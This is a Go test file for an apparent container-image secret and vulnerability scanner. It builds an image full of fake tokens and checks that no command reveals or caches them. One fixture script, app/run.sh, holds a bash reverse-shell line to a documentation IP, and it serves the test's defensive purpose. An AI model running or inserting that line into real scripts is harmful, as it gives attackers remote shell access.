package main

import (
	"bytes"
	"encoding/json"
	"io/fs"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"tidewaiter/image/imagetest"
	"tidewaiter/report"
	"tidewaiter/secret"
)

// The secrets that are planted: made up, in the forms of those that are not. They are put together here so that no text of the repository
// looks like one.
func planted() map[string]string {
	gitlab := "glpat-" // of 20 characters
	return map[string]string{
		"file": gitlab + "Kq7RzT2mXw9VbN4cLp3S", "deleted": gitlab + "Wd8JhY5sPf1GtM6vQa2Z",
		"variable": gitlab + "Bx3NkU7rEo6CiH1yDj9L", "named variable": "v8Kz" + "Q2mWx7Rt4Np", "label": gitlab + "Ty4QsF8zAn2MgV5bRw7K",
		"annotation": gitlab + "Hc6LpX1dZu9TkJ3eSm8R", "argument": gitlab + "Pn2VyB6gIl8OxC4wFq5T", "command": gitlab + "Ju9SaD3hYk7EzR1tMb6W",
		"instruction": "r5Tn" + "Y8cVb3Ks6Jd", "captured": gitlab + "Gm5FwL2jQe4XrK9nVd1H", "paper": gitlab + "Zs7EtC9uHp6BqN3xKy2F", "Dockerfile": gitlab + "Ro1MjG4vTx8AhW6kUc3P",
		"script": gitlab + "Ef3XbS9qLw5DyO7iGz4N", "start": gitlab + "Vk6CnR1aJm8UtQ2oHs5Y", "health": gitlab + "Dq4ZyM7fXi2KwP9eTb8J",
	}
}

// leaky is an image that has them all, with provenance beside it, and the Dockerfile that it was built from.
func leaky(t *testing.T, raw map[string]string) (ref, dockerfile string) {
	t.Helper()
	layers := [][]imagetest.File{
		debianFiles(),
		{
			{Name: "app/.env", Content: "MODE=prod\nGITLAB_TOKEN=" + raw["deleted"] + "\n"},
			{Name: "app/config.yaml", Content: "gitlab:\n  token: " + raw["file"] + "\n"},
			{Name: "app/package.json", Content: `{"name": "shop", "version": "1.0.0", "private": true, "repository": "https://oauth2:` + raw["captured"] + `@gitlab.com/acme/shop.git"}`},
			{Name: "app/package-lock.json", Content: `{"name":"shop","version":"1.0.0","lockfileVersion":3,"packages":{"":{"name":"shop","version":"1.0.0","dependencies":{"lodash":"4.17.15"}},"node_modules/lodash":{"version":"4.17.15","resolved":"https://oauth2:` + raw["captured"] + `@gitlab.com/lodash-4.17.15.tgz"}}}`},
			{Name: "app/node_modules/lodash/package.json", Content: `{"name":"lodash","version":"4.17.15"}`},
			{Name: "app/run.sh", Content: "#!/bin/sh\nbash -i >& /dev/tcp/203.0.113.7/4444 0>&1 # " + raw["script"] + "\n", Mode: 0o755},
		},
		{{Name: "app/.wh..env"}},
	}
	arg := "GITLAB_TOKEN=" + raw["argument"]
	spec := imagetest.Spec{
		CreatedBy: []string{"/bin/sh -c #(nop) ADD file:0 in / ", "COPY . /app # buildkit",
			"RUN |1 " + arg + " /bin/sh -c curl -H 'PRIVATE-TOKEN: " + raw["command"] + "' https://gitlab.com/api/v4/user; mysql -u root --password=" + raw["instruction"] + "; rm /app/.env # buildkit"},
		Empty: []string{"ARG GITLAB_TOKEN", "ENV CI_TOKEN=" + raw["variable"] + " DB_PASSWORD=" + raw["named variable"], "LABEL deploy.key=" + raw["label"],
			`CMD ["node" "server.js" "--token" "` + raw["start"] + `"]`},
		Labels: map[string]string{"deploy.key": raw["label"], "org.opencontainers.image.version": "1"},
		Config: map[string]any{
			"Env": []string{"PATH=/usr/bin:/bin", "CI_TOKEN=" + raw["variable"], "DB_PASSWORD=" + raw["named variable"]},
			"Cmd": []string{"node", "server.js", "--token", raw["start"]}, "Healthcheck": map[string]any{"Test": []string{"CMD-SHELL", "curl -H 'PRIVATE-TOKEN: " + raw["health"] + "' localhost"}},
		},
	}
	for _, files := range layers {
		spec.Layers = append(spec.Layers, imagetest.Tar(t, files...))
	}
	source := "FROM debian:12\nCOPY . /app\nARG GITLAB_TOKEN\nRUN curl -H 'PRIVATE-TOKEN: " + raw["command"] + "' https://gitlab.com/api/v4/user; mysql -u root --password=" + raw["instruction"] + "; rm /app/.env\n" +
		"ENV CI_TOKEN=" + raw["variable"] + " DB_PASSWORD=" + raw["named variable"] + " OTHER_TOKEN=" + raw["Dockerfile"] + "\nLABEL deploy.key=" + raw["label"] + "\nCMD [\"node\", \"server.js\", \"--token\", \"" + raw["start"] + "\"]\n"
	dockerfile = filepath.Join(t.TempDir(), "Dockerfile")
	if err := os.WriteFile(dockerfile, []byte(source), 0o600); err != nil {
		t.Fatal(err)
	}
	return "oci:" + withProvenance(t, imagetest.Build(t, spec), source, raw).Layout(t, "1"), dockerfile
}

// withProvenance puts what BuildKit says of a build beside an image, and an annotation on both.
func withProvenance(t *testing.T, c imagetest.Content, dockerfile string, raw map[string]string) imagetest.Content {
	t.Helper()
	statement, err := json.Marshal(map[string]any{
		"_type": "https://in-toto.io/Statement/v1", "predicateType": "https://slsa.dev/provenance/v0.2",
		"subject": []any{map[string]any{"name": "shop", "digest": map[string]string{"sha256": strings.TrimPrefix(c.Root.Digest, "sha256:")}}},
		"predicate": map[string]any{
			"builder": map[string]string{"id": "https://github.com/acme/shop/actions/runs/42"}, "buildType": "https://mobyproject.org/buildkit@v1",
			"materials":  []any{debianMaterial()},
			"invocation": map[string]any{"parameters": map[string]any{"args": map[string]string{"build-arg:GITLAB_TOKEN": raw["argument"], "build-arg:DEPLOY_TOKEN": raw["paper"]}}},
			"metadata": map[string]any{"https://mobyproject.org/buildkit@v1#metadata": map[string]any{"source": map[string]any{
				"infos": []any{map[string]any{"filename": "Dockerfile", "language": "Dockerfile", "data": []byte(dockerfile)}}}}},
		},
	})
	if err != nil {
		t.Fatal(err)
	}
	blob := c.Add("application/vnd.in-toto+json", statement)
	blob.Annotations = map[string]string{"in-toto.io/predicate-type": "https://slsa.dev/provenance/v0.2"}
	config := c.AddJSON(t, "application/vnd.oci.image.config.v1+json", map[string]any{"architecture": "unknown", "os": "unknown", "rootfs": map[string]any{}})
	entry := c.AddJSON(t, "application/vnd.oci.image.manifest.v1+json", imagetest.Manifest(config, blob))
	entry.Annotations = map[string]string{"vnd.docker.reference.type": "attestation-manifest", "vnd.docker.reference.digest": c.Root.Digest}
	entry.Platform = &imagetest.Platform{OS: "unknown", Architecture: "unknown"}
	c.Root = c.AddJSON(t, imagetest.IndexType, map[string]any{"schemaVersion": 2, "mediaType": imagetest.IndexType, "manifests": []any{c.Root, entry},
		"annotations": map[string]string{"com.acme.deploy": raw["annotation"]}})
	return c
}

// No command, in no format, shows a secret that the image has, nor keeps it: neither on the first reading nor from the cache.
func TestNoSecretIsShownOrKept(t *testing.T) {
	home, raw := t.TempDir(), planted()
	for _, variable := range []string{"XDG_DATA_HOME", "XDG_CACHE_HOME", "XDG_CONFIG_HOME", "XDG_STATE_HOME"} {
		t.Setenv(variable, filepath.Join(home, variable))
	}
	db := sampleAdvisories(t)
	t.Chdir(t.TempDir())
	ref, dockerfile := leaky(t, raw)
	config := filepath.Join(home, "tidewaiter.yaml")
	if err := os.WriteFile(config, []byte("environments: {production: {exposure: open}}\n"), 0o600); err != nil {
		t.Fatal(err)
	}
	judged := []string{db, "--config", config, "--env", "production", "--dockerfile", dockerfile}
	stored := filepath.Join(home, "stored.json")
	commands := [][]string{
		append([]string{"scan", "--output", "json=" + stored, ref}, judged...),
		append([]string{"scan", "--all", ref}, judged...), {"scan", db, ref}, {"scan", db, "--all", "--platform", "all", ref}, {"scan", "--scanners", "vuln", db, ref},
		append([]string{"explain", "--all", ref, "CVE-2020-8203"}, judged...), {"explain", db, ref, "pkg:npm/lodash"},
		append([]string{"advise", ref}, judged...), append([]string{"advise", "--format", "json", ref}, judged...), append([]string{"advise", "--all", ref}, judged...),
		append([]string{"gate", ref}, judged...), append([]string{"gate", "--format", "json", ref}, judged...), append([]string{"gate", "--all", "report:" + stored}, judged...),
		append([]string{"record", ref}, judged...), append([]string{"gate", "env:production"}, judged...),
		append([]string{"compare", "--all", "report:" + stored, ref}, judged...), append([]string{"compare", "--format", "json", ref, ref}, judged...),
		{"trace", "--all", "--files", ref}, {"trace", "--format", "json", "--files", ref}, {"trace", "--dockerfile", dockerfile, ref},
		{"verify", ref}, {"verify", "--format", "json", ref}, {"verify", "--declared", dockerfile, "--all", ref}, {"verify", "--declared", dockerfile, "--format", "json", ref},
		{"verify", "--declared", dockerfile, "--build-arg", "GITLAB_TOKEN=" + raw["argument"], "--all", ref}, {"verify", "--declared", "provenance", "--all", ref},
		{"base", "add", ref}, {"base", "list", "--format", "json"},
	}
	for _, form := range report.Forms() {
		if form.Name != "template" {
			commands = append(commands, append([]string{"scan", "--all", "--format", form.Name, ref}, judged...))
		}
	}
	for _, format := range []string{"spdx", "cyclonedx", "json"} {
		commands = append(commands, []string{"sbom", "--files", "--format", format, ref})
	}
	for _, detail := range secretIDs(t, db, ref) {
		commands = append(commands, []string{"explain", "--all", db, ref, detail})
	}
	for range 2 { // the second time from the cache
		for _, args := range commands {
			var out, errs bytes.Buffer
			code := run(t.Context(), args, streams{out: &out, err: &errs, now: labNow})
			if text := errs.String(); code == exitFailed && (strings.Contains(text, "unknown") || strings.Contains(text, "crashed")) {
				t.Errorf("tidewaiter %v did not run: %s", args, text)
			}
			for what, text := range raw {
				if strings.Contains(out.String()+errs.String(), text) {
					t.Errorf("tidewaiter %s: shows the secret of the %s: %q", strings.Join(args, " "), what, around(out.String()+errs.String(), text))
				}
			}
		}
	}
	unkept(t, home, raw)
}

// secretIDs gives what explain takes for what was found, and holds that all was: but what stands in the Dockerfile or the papers alone.
func secretIDs(t *testing.T, db, ref string) []string {
	t.Helper()
	out, _ := told(t, labNow(), exitDone, "scan", db, "--format", "json", ref)
	r := reportOf(t, out)
	var ids []string
	for _, s := range r.Secrets.Found {
		ids = append(ids, s.ID)
	}
	found := map[secret.In]int{}
	for _, s := range r.Secrets.Found {
		if s.Quieted == nil {
			found[s.In]++
		}
	}
	if found[secret.InFile] < 4 || found[secret.InEnv] != 2 || found[secret.InLabel] != 2 || found[secret.InHistory] != 5 {
		t.Errorf("found %v: %+v", found, r.Secrets.Found)
	}
	return ids
}

func around(text, what string) string {
	at := strings.Index(text, what)
	return text[max(at-80, 0):min(at+len(what)+20, len(text))]
}

// unkept holds that no file below a directory has one of the secrets.
func unkept(t *testing.T, dir string, raw map[string]string) {
	t.Helper()
	err := filepath.WalkDir(dir, func(path string, d fs.DirEntry, err error) error {
		if err != nil || d.IsDir() {
			return err
		}
		content, err := os.ReadFile(path)
		for what, text := range raw {
			if bytes.Contains(content, []byte(text)) {
				t.Errorf("%s keeps the secret of the %s", path, what)
			}
		}
		return err
	})
	if err != nil {
		t.Fatal(err)
	}
}
